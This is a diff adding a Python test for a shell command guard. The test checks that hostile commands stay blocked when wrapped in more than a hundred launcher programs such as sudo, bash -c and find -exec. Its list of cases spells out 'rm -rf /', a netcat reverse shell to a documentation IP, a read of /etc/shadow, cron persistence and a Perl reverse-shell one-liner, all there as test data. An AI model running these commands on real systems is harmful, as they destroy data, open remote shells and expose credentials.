@@ -1,0 +1,140 @@
+# SPDX-License-Identifier: ISC
+"""Each program that starts another one, by each kind of rule: what it starts
+is judged as if it stood alone.  The programs are the rows of the resolver's
+table; one without a line here fails.  Nothing is run."""
+
+import json
+import os
+import re
+import subprocess
+import sys
+import tempfile
+
+TOP = os.environ["abs_top_srcdir"]
+CTL = os.path.join(os.environ["abs_top_builddir"], "tests/bin/aegshctl")
+sys.path.insert(0, os.path.join(TOP, "tests", "lib"))
+from tap import Tap  # noqa: E402
+
+tap = Tap()
+# What stands in front; %s is the command, %q the same as one word.
+PLAIN = """
+abduco -A s|ash -c %q|aa-exec -p p|builtin command|bundle exec|busybox
+catchsegv|choom -n 5|chpst -u bob|chronic|chroot /mnt|chrt 5|command
+cpulimit -l 5|daemonize|dbus-launch|dbus-run-session --|direnv exec .|doas
+dtach -A s|eatmydata|env A=1|envdir d|envuidgid bob|exec|fakeroot
+faketime now|flock l|genie|gosu bob|gtimeout 9|ionice -c3|ip netns exec n
+ld.so|linux32|linux64|ltrace|machinectl shell bob@.host|nice -n 5|nohup
+npm exec --|npx|nsenter -t 99 -n|numactl -N0|openvt --|pexec|pipenv run
+pkexec|poetry run|prlimit --nofile=9|proxychains|proxychains4|rlwrap|run-one
+rustup run stable|setarch x86_64|setlock l|setpriv --reuid 9|setsid
+setuidgid bob|softlimit -m 9|ssh-agent|sshpass -p x|stdbuf -oL|strace
+su-exec bob|sudo|systemd-cat|systemd-inhibit|systemd-run|taskset 1|time
+timeout 5|tini --|torify|torsocks|toybox|tsocks|uname26|unbuffer|unshare -r
+valgrind|xvfb-run|yarn exec|xargs|gxargs|entr
+"""
+WORD = """
+bash -c %q|csh -c %q|dash -c %q|elvish -c %q|fish -c %q|ksh -c %q
+ksh93 -c %q|mksh -c %q|posh -c %q|rbash -c %q|sh -c %q|tcsh -c %q
+yash -c %q|zsh -c %q|eval %q|watch %q|ssh h.example %q|su -c %q bob
+runuser bob -c %q|script -c %q f|sg users -c %q|trap %q EXIT|alias x=%q
+complete -C %q x|compgen -C %q x|mapfile -C %q a|readarray -C %q a
+parallel %q ::: a|tmux new -d %q|tmate new -d %q|screen -X stuff %q
+rsync -e %q a h.example:|. /dev/stdin <<< %q|source /dev/stdin <<< %q
+at now <<< %q|batch <<< %q
+"""
+OTHER = {
+    "find": "find . -exec %s \\;", "gfind": "gfind . -exec %s \\;",
+    "jobs": "jobs -x %s",
+    "start-stop-daemon":
+        "start-stop-daemon -S -x %0 -- %1",
+    "scp": "scp -S %p f h.example:", "sftp": "sftp -S %p h.example",
+}
+# A command, the profile, the rule that speaks of it where it stands alone.
+KINDS = (
+    ("the floor", "rm -rf /", "admin"),
+    ("a block", "nc -e /bin/sh 192.0.2.1 9", "admin"),
+    ("a secret read", "cat /etc/shadow", "admin"),
+    ("a start-up file written", "cp x /etc/cron.d/x", "admin"),
+    ("a change that asks", "useradd bob", "admin"),
+    ("code of another language",
+     "perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\");'", "admin"),
+    ("a list of the contract", "curl http://x.example", "dev"),
+    ("a path outside of the project", "cat /srv/f", "full-auto"),
+)
+# Only one word is the program's: the rules on operands have nothing to see.
+ONE_WORD = {"scp", "sftp"}
+STRICT = {"allow": 0, "warn": 1, "block": 2}
+
+
+def quote(text):
+    return "'" + text.replace("'", "'\\''") + "'"
+
+
+def forms():
+    """Each program's name and form."""
+    for text in PLAIN, WORD:
+        for form in re.split(r"[|\n]", text):
+            if form:
+                yield form.split()[0], form if "%" in form else form + " %s"
+    yield from OTHER.items()
+
+
+def fill(form, command):
+    first, rest = command.split(" ", 1)
+    return form.replace("%s", command).replace("%q", quote(command)) \
+        .replace("%0", first).replace("%1", rest).replace("%p", first)
+
+
+def rows():
+    with open(os.path.join(TOP, "src/resolve/resolve_table.c")) as f:
+        table = re.search(r"wraps\[\] = \{(.*?)^\};", f.read(),
+                          re.S | re.M).group(1)
+    return re.findall(r'^\t\{ "([^"]+)"', table, re.M)
+
+
+def judge(lines, profile, root):
+    """Decisions and rules."""
+    project = os.path.join(root, "home", "project")
+    p = subprocess.run(
+        [CTL, "test", "--jsonl", "--profile", profile, "--cwd", project],
+        input="".join(json.dumps({"command": x}) + "\n" for x in lines),
+        env={"PATH": "/usr/bin:/bin", "HOME": os.path.join(root, "home"),
+             "AEGSH_TEST_ROOT": root,
+             "AEGSH_TEST_DATA": os.path.join(TOP, "share")},
+        capture_output=True, text=True)
+    out = [json.loads(x) for x in p.stdout.splitlines()]
+    if len(out) != len(lines):
+        raise RuntimeError(p.stderr)
+    return out
+
+
+def main():
+    known = dict(forms())
+    table = rows()
+    tap.ok(len(table) > 100, "%d programs start others" % len(table))
+    tap.same([x for x in table if x not in known], [],
+             "each has a line here")
+    tap.same([x for x in known if x not in table], [],
+             "and no other")
+    with tempfile.TemporaryDirectory(prefix="t-aegsh-", dir="/var/tmp") as d:
+        os.chmod(d, 0o755)
+        os.makedirs(os.path.join(d, "home", "project"))
+        for what, command, profile in KINDS:
+            names = [x for x in known if x not in ONE_WORD]
+            lines = [command] + [fill(known[x], command) for x in names]
+            alone, *answers = judge(lines, profile, d)
+            tap.ok(alone["decision"] != "allow", "%s: %s" %
+                   (what, alone["rule"]))
+            loose = [(a["line"], a["decision"], a["rule"])
+                     for a in answers if STRICT[a["decision"]] <
+                     STRICT[alone["decision"]]]
+            tap.same(loose, [], "%s: behind each of %d programs" %
+                     (what, len(names)))
+        names = sorted(ONE_WORD)
+        answers = judge([fill(known[x], "./x y") for x in names], "admin", d)
+        tap.same([a["line"] for a in answers if a["decision"] == "allow"],
+                 [], "a program in the place of ssh")
+    tap.done()
+
+
+main()
